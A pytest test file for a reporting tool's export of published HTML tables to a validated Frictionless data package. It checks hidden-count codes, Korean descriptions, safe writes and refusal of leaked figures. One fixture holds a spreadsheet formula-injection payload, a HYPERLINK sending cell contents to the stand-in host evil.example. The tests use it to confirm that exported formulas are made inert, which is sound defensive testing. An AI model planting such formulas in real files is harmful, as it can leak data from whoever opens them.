"""`coopanalysis export OUT_DIR --format datapackage`: every table the published pages show, as a
Frictionless data package that `frictionless` validates; hidden cells stay codes, formulas inert."""

from __future__ import annotations

import csv
import html
import json
import re
from pathlib import Path

import pytest
from frictionless import Package, validate

from coopanalysis.batch.datapackage import export_datapackage
from coopanalysis.batch.published_pages import source_line, table_payloads
from coopanalysis.cli import main as cli_main
from coopanalysis.core import names
from coopanalysis.errors import DataFileError
from coopanalysis.html.page import sources_html
from coopanalysis.present.mime import escape_json_for_html
from coopanalysis.present.page_facts import EXPORT_BANNER
from coopanalysis.present.table_data import HIDDEN_CODE

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
KOREAN = "서울경찰청 사이버수사대"
YONHAP = {"label": "Yonhap & KBS, 27 Nov 2022", "url": "https://www.yna.co.kr/view/AKR20221125"}
LOG = {"label": "Request log my_log.csv", "url": ""}


def payload(ident: str, caption: str, columns: list[tuple[str, str, str]], rows: list[list], missing: list[str]) -> dict:
    return {"id": ident, "caption": caption, "rows": rows, "missing": missing,
            "columns": [{"name": n, "title": n, "type": t, "description": d} for n, t, d in columns]}


def block(p: dict, sources: list[dict] | None = None, *, synthetic: bool = False) -> str:
    """One table output as the offline page writes it: the table, its data, buttons, its source line."""
    head = "".join(f'<th scope="col">{html.escape(c["name"])}</th>' for c in p["columns"])
    body = "".join("<tr>" + "".join(f"<td>{html.escape('–' if v is None else str(v))}</td>" for v in r) + "</tr>"
                   for r in p["rows"])
    line = sources_html({"synthetic": synthetic, "sources": {"default": sources}})["default"] if sources else ""
    return (f'<section class="coop-cell">\n<div class="coop-html coop-table-block" id="{p["id"]}">\n'
            f'<table class="coop-table"><caption>{html.escape(p["caption"])}</caption><thead><tr>{head}</tr></thead>'
            f'<tbody>{body}</tbody></table>\n</div>\n'
            f'<script type="application/json" class="coop-table-data" data-for="{p["id"]}">{escape_json_for_html(p)}</script>\n'
            f'<div class="coop-controls" role="group" data-for="{p["id"]}"></div>\n{line}\n</section>')


def page_html(title: str, blocks: list[str], *, synthetic: bool = False, lang: str = "en") -> str:
    banner = '<div class="coop-banner" role="note"><strong>Synthetic data</strong></div>' if synthetic else ""
    return (f'<!DOCTYPE html>\n<html lang="{lang}">\n<head><title>{html.escape(title)}</title></head>\n<body>\n'
            f'<main class="coop-report">{banner}<h1 class="coop-title">{html.escape(title)}</h1>\n'
            + "\n".join(blocks) + "\n</main>\n</body>\n</html>\n")


AGENCIES = payload(
    "request-volumes-busiest-agencies", "Agencies with the most requests, 2024",
    [("Agency", "string", ""), ("Requests", "integer", ""), ("Note", "string", "What the row says")],
    [[KOREAN, 1234, ""], ["Busan", "<10", FORMULA], ["Daegu", "withheld", "-5 looks like a formula"], ["Incheon", None, "+1"]],
    ["<10", "withheld"])
SHARES = payload(
    "request-volumes-answered-share", "Answered share by year",
    [("year", "integer", ""), ("Answered share", "number", ""), ("Requested on", "date", "")],
    [[2023, 0.539, "2023-01-01"], [2024, 0.892, "2024-01-01"]], [])


def entry(name: str, *, status: str = "ok", synthetic: bool = False, title: str = "") -> dict:
    return {"name": name, "status": status, "outputs": {"html": f"{name}.html"} if status != "failed" else {},
            "page": {"title": title or name, "synthetic": synthetic}}


@pytest.fixture
def run_folder(tmp_path: Path) -> Path:
    """A run folder of three published pages (one synthetic, one without tables), a failed report
    and an executed notebook, none of which may reach the package."""
    out = tmp_path / "run"
    out.mkdir()
    (out / "request_volumes.html").write_text(page_html("All platforms, 2024", [
        block(AGENCIES, [YONHAP, LOG], synthetic=True), block(SHARES, [YONHAP], synthetic=True)], synthetic=True),
        encoding="utf-8")
    (out / "notes.html").write_text(page_html("Notes", ["<section><p>No table here.</p></section>"]), encoding="utf-8")
    secret = payload("broken-secret", "Secret", [("Requests", "integer", "")], [[3]], [])
    (out / "broken.html").write_text(page_html("Broken", [block(secret)]), encoding="utf-8")  # failed: not published
    (out / "executed").mkdir()
    (out / "executed" / "request_volumes.ipynb").write_text(json.dumps({"cells": [], "secret": 3}), encoding="utf-8")
    summary = {"title": "Reports", "reports": [
        entry("request_volumes", synthetic=True, title="All platforms, 2024"), entry("notes"),
        entry("broken", status="failed")]}
    (out / "summary.json").write_text(json.dumps(summary), encoding="utf-8")
    return out


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


# ------------------------------------------------------------------------------ (a) tiny pages


def test_the_package_of_tiny_pages_validates_and_keeps_codes_as_codes(run_folder, capsys):
    assert cli_main(["export", str(run_folder), "--format", "datapackage"]) == 0
    printed = capsys.readouterr().out
    assert "wrote 2 resource(s), 6 row(s)" in printed
    assert "pages read: 2, with tables: 1 (without table data, skipped: notes.html)" in printed

    pkg_dir = run_folder / "datapackage"
    report = validate(str(pkg_dir / "datapackage.json"))
    assert report.valid, report.flatten(["type", "message"])
    assert report.stats["errors"] == 0 and report.stats["tasks"] == 2

    desc = json.loads((pkg_dir / "datapackage.json").read_text(encoding="utf-8"))
    assert [r["name"] for r in desc["resources"]] == ["request-volumes-busiest-agencies", "request-volumes-answered-share"]
    assert "broken" not in json.dumps(desc)  # the failed report's page and the notebook stay out
    agencies = desc["resources"][0]
    assert agencies["title"] == "Agencies with the most requests, 2024"
    assert agencies["profile"] == "tabular-data-resource" and agencies["path"] == "request-volumes-busiest-agencies.csv"
    assert agencies["schema"]["missingValues"] == ["", "<10", "withheld"]
    assert agencies["description"].startswith(EXPORT_BANNER)  # synthetic figures say so
    fields = {f["name"]: f for f in agencies["schema"]["fields"]}
    wanted = getattr(names, "DESCRIPTIONS", {}).get("requests") or names.LABELS["requests"]
    assert fields["Requests"]["description"] == wanted  # from the labels registry: the payload had none
    assert fields["Agency"]["description"] == (getattr(names, "DESCRIPTIONS", {}).get("agency") or names.LABELS["agency"])
    assert fields["Note"]["description"] == "What the row says"  # the payload's own words win
    assert [f["type"] for f in desc["resources"][1]["schema"]["fields"]] == ["integer", "number", "date"]
    assert {"title": "Yonhap & KBS, 27 Nov 2022", "path": YONHAP["url"]} in desc["sources"]
    assert {"title": "Request log my_log.csv"} in desc["sources"] and len(desc["sources"]) == 2
    assert desc["licenses"][0]["name"] == "MIT" and "states no licence" in desc["licenses"][0]["title"]

    rows = read_csv(pkg_dir / agencies["path"])
    assert rows[0] == ["Agency", "Requests", "Note"]
    assert rows[1] == [KOREAN, "1234", ""]
    assert rows[2] == ["Busan", "<10", "'" + FORMULA]  # the code, not a number; the formula inert
    assert rows[3] == ["Daegu", "withheld", "'-5 looks like a formula"]
    assert rows[4] == ["Incheon", "", "'+1"]
    assert (pkg_dir / agencies["path"]).read_bytes().startswith(b"\xef\xbb\xbfAgency,Requests,Note\r\n")

    read = Package(str(pkg_dir / "datapackage.json")).get_resource("request-volumes-busiest-agencies").read_rows()
    assert [r["Requests"] for r in read] == [1234, None, None, None]  # a hidden count reads as missing
    assert read[0]["Agency"] == KOREAN


def test_page_data_and_source_lines_are_read_as_the_page_writes_them():
    text = page_html("T", [block({**AGENCIES, "caption": "</script><b>x</b>"}, [YONHAP, LOG])])
    found = table_payloads(text, source="t.html")
    assert len(found) == 1 and found[0]["caption"] == "</script><b>x</b>" and found[0]["rows"][1][1] == "<10"
    assert found[0]["sources"] == [YONHAP, LOG]
    assert source_line('<span>Source: not recorded.</span>') == []
    with pytest.raises(DataFileError, match=r"t\.html: table data 1 is not a table"):
        table_payloads('<script type="application/json" class="coop-table-data">{"columns": 3}</script>', source="t.html")


def test_a_failed_export_leaves_the_earlier_package_as_it_was(run_folder, monkeypatch):
    export_datapackage(run_folder)
    folder = run_folder / "datapackage"
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    page = run_folder / "request_volumes.html"  # the pages change: a new package would differ in every file
    page.write_text(page.read_text(encoding="utf-8").replace("Busan", "Gwangju"), encoding="utf-8")
    import coopanalysis.batch.datapackage as dp
    from coopanalysis.core.files import write_atomic

    calls = []

    def failing(path, data, **kw):  # the disk fills up at the second file of the new package
        calls.append(path)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        return write_atomic(path, data, **kw)

    monkeypatch.setattr(dp, "write_atomic", failing)
    with pytest.raises(DataFileError, match=r"datapackage: cannot write the package \(No space left on device\)"):
        export_datapackage(run_folder)
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
    assert sorted(p.name for p in run_folder.iterdir() if p.name.startswith(".datapackage")) == []


def test_a_folder_that_is_not_a_package_is_never_replaced(run_folder, tmp_path, capsys):
    mine = tmp_path / "Documents"
    mine.mkdir()
    (mine / "thesis.docx").write_text("mine", encoding="utf-8")
    assert cli_main(["export", str(run_folder), "--to", str(mine)]) == 2
    err = capsys.readouterr().err.strip()
    assert err == (f"coopanalysis export: error: {mine}: the folder holds files but no datapackage.json; "
                   "refusing to replace it (choose another --to folder)")
    assert (mine / "thesis.docx").read_text(encoding="utf-8") == "mine"
    assert cli_main(["export", str(run_folder), "--to", str(tmp_path / "pkg")]) == 0
    assert (tmp_path / "pkg" / "request-volumes-answered-share.csv").is_file()


# ------------------------------------------------------------------------------ (b) the command's errors


@pytest.mark.parametrize(("setup", "message"), [
    (lambda d: None, "{d}: no such folder"),
    (lambda d: d.mkdir(), "{d}/summary.json: not found: is this the output folder of `coopanalysis run`?"),
    (lambda d: (d.mkdir(), (d / "summary.json").write_text("[1]")), "{d}/summary.json: is not the summary of a run"),
    (lambda d: (d.mkdir(), (d / "summary.json").write_text(json.dumps({"reports": [entry("gone")]}))),
     "{d}/gone.html: summary.json lists it as published, but it is missing"),
    (lambda d: (d.mkdir(), (d / "summary.json").write_text(json.dumps({"reports": [entry("notes")]})),
                (d / "notes.html").write_text(page_html("Notes", []))),
     "{d}: none of its 1 published page(s) embeds table data"),
])
def test_the_command_says_in_one_line_what_is_wrong_and_exits_2(tmp_path, capsys, setup, message):
    folder = tmp_path / "out"
    setup(folder)
    assert cli_main(["export", str(folder), "--format", "datapackage"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("coopanalysis export: error: " + message.format(d=folder))
    assert not (folder / "datapackage").exists()


def test_an_unknown_format_is_refused_in_one_line(run_folder, capsys):
    assert cli_main(["export", str(run_folder), "--format", "xlsx"]) == 2
    assert capsys.readouterr().err == "coopanalysis export: error: unknown --format 'xlsx': the formats are datapackage\n"
    assert not (run_folder / "datapackage").exists()


# ------------------------------------------------------------------------------ (c, d) the bundled batch


def _run(tmp_path_factory, profile: str | None) -> Path:
    from coopanalysis.batch import run_batch

    out = tmp_path_factory.mktemp(profile or "plain") / "out"
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("XDG_STATE_HOME", str(out.parent / "state"))
        assert run_batch(out_dir=out, profile=profile, jobs=2).exit_code == 0
    return out


@pytest.fixture(scope="module")
def plain_run(tmp_path_factory) -> Path:
    return _run(tmp_path_factory, None)


@pytest.fixture(scope="module")
def shared_run(tmp_path_factory) -> Path:
    return _run(tmp_path_factory, "shared")


def _tables(page: Path) -> list[tuple[str, list[str], list[list[str]]]]:
    """Every table the page shows: its block id, header cells and body cells as a reader reads them."""
    text = page.read_text(encoding="utf-8")
    cell = lambda s: html.unescape(re.sub(r"<[^>]+>", "", s)).strip()
    found = []
    for tag, table in re.findall(r'(<div\b[^>]*\bcoop-table-block\b[^>]*>)\s*(.*?)</table>', text, re.S):
        ident = re.search(r'\bid="([^"]+)"', tag).group(1)  # attributes in any order
        head = [cell(h) for h in re.findall(r"<th\b[^>]*>(.*?)</th>", table, re.S)]
        body = [[cell(c) for c in re.findall(r"<td\b[^>]*>(.*?)</td>", r, re.S)]
                for r in re.findall(r"<tr>(.*?)</tr>", table.split("<tbody>", 1)[-1], re.S)]
        found.append((ident, head, body))
    return found


def _check_package(out: Path) -> tuple[dict, dict[str, list]]:
    assert cli_main(["export", str(out), "--format", "datapackage"]) == 0
    report = validate(str(out / "datapackage" / "datapackage.json"))
    assert report.valid, report.flatten(["type", "message"])[:10]
    desc = json.loads((out / "datapackage" / "datapackage.json").read_text(encoding="utf-8"))
    pages = [e["outputs"]["html"] for e in json.loads((out / "summary.json").read_text())["reports"]]
    shown = {p: _tables(out / p) for p in pages}
    by_page: dict[str, list] = {}
    for res in desc["resources"]:
        page = re.search(r"\(([^()]+\.html)\)\.$", res["description"]).group(1)
        by_page.setdefault(page, []).append(res)
    assert sum(len(t) for t in shown.values()) > 10
    for page, tables in shown.items():  # every table of every page is a resource, in page order
        assert [r["title"] for r in by_page.get(page, [])] == [_caption(out / page, t[0]) for t in tables], page
    return desc, {p: list(zip(by_page.get(p, []), shown[p], strict=True)) for p in pages}


def _caption(page: Path, ident: str) -> str:
    text = page.read_text(encoding="utf-8")
    data = re.search(rf'<script\b(?=[^>]*class="coop-table-data")[^>]*data-for="{re.escape(ident)}"[^>]*>(.*?)</script>',
                     text, re.S)
    assert data, f"{page.name}: the table {ident} is shown without its data beside it"
    return json.loads(data.group(1))["caption"] or ident


def test_every_table_of_every_page_of_the_bundled_run_is_a_resource(plain_run):
    desc, pairs = _check_package(plain_run)
    assert sorted(p.name for p in (plain_run / "datapackage").iterdir()) == sorted(
        ["datapackage.json", *(r["path"] for r in desc["resources"])])  # nothing else: no notebook, no log
    assert any("requests_synthetic.csv" in s["title"] for s in desc["sources"])
    assert any(s.get("path") == "https://github.com/Te-k/telegram-transparency" for s in desc["sources"])
    for res in desc["resources"]:  # the synthetic pages' tables say so; the providers' figures are real
        assert res["description"].startswith(EXPORT_BANNER) == (not res["name"].startswith("transparency-")), res["name"]


def test_no_resource_of_a_shared_run_holds_a_number_its_page_hides(shared_run):
    desc, pairs = _check_package(shared_run)
    hidden_cells = 0
    for page, matched in pairs.items():
        for res, (_ident, head, body) in matched:
            rows = read_csv(shared_run / "datapackage" / res["path"])
            assert [f["title"] for f in res["schema"]["fields"]] == head, (page, res["name"])
            for i, shown_row in enumerate(body):
                for j, text in enumerate(shown_row):
                    if HIDDEN_CODE.fullmatch(text):
                        hidden_cells += 1
                        assert rows[i + 1][j] == text, (page, res["name"], i, head[j], rows[i + 1][j])
                        assert text in res["schema"]["missingValues"]
    assert hidden_cells >= 10  # the shared profile hides counts in the bundled tables (18 when written)


def test_a_korean_page_gets_its_descriptions_in_korean(tmp_path, monkeypatch):
    from coopanalysis.core import i18n

    ko = {"Requests": "요청 건수", "Agency": "기관", "From the page “{title}” ({file}).": "“{title}” 페이지({file})의 표."}
    monkeypatch.setattr(i18n, "catalogue", lambda lang: ko if lang == "ko" else {})
    out = tmp_path / "run"
    out.mkdir()
    table = payload("volumes-기관별-요청", "기관별 요청", [("기관", "string", ""), ("요청 건수", "integer", "")],
                    [[KOREAN, 12], ["부산", "<10"]], ["<10"])
    (out / "volumes.html").write_text(page_html("요청", [block(table, [LOG])], lang="ko"), encoding="utf-8")
    (out / "summary.json").write_text(json.dumps({"reports": [entry("volumes", title="요청")]}), encoding="utf-8")
    export_datapackage(out)
    report = validate(str(out / "datapackage" / "datapackage.json"))
    assert report.valid, report.flatten(["type", "message"])
    res = json.loads((out / "datapackage" / "datapackage.json").read_text(encoding="utf-8"))["resources"][0]
    assert res["name"] == "volumes"  # a valid Frictionless name: the Korean letters of the id drop out
    assert [f.get("description") for f in res["schema"]["fields"]] == ["기관", "요청 건수"]
    assert res["description"] == "“요청” 페이지(volumes.html)의 표."
    assert read_csv(out / "datapackage" / "volumes.csv")[1:] == [[KOREAN, "12"], ["부산", "<10"]]


def test_data_that_gives_a_number_the_table_hides_is_refused(run_folder, capsys):
    page = run_folder / "request_volumes.html"
    text = page.read_text(encoding="utf-8")
    leaky = {**AGENCIES, "rows": [AGENCIES["rows"][0], ["Busan", 7, FORMULA], *AGENCIES["rows"][2:]]}
    shown = block(AGENCIES)  # the table shows "<10" for Busan, the data beside it says 7
    leak = shown[:shown.index("<script")] + block(leaky)[block(leaky).index("<script"):]
    page.write_text(text.replace("</main>", leak + "\n</main>"), encoding="utf-8")
    assert cli_main(["export", str(run_folder)]) == 2
    assert capsys.readouterr().err == (f"coopanalysis export: error: {page}: table data 3: row 2, 'Requests': the page "
                                       "shows '<10', the data beside it does not; nothing was exported\n")
    assert not (run_folder / "datapackage").exists()
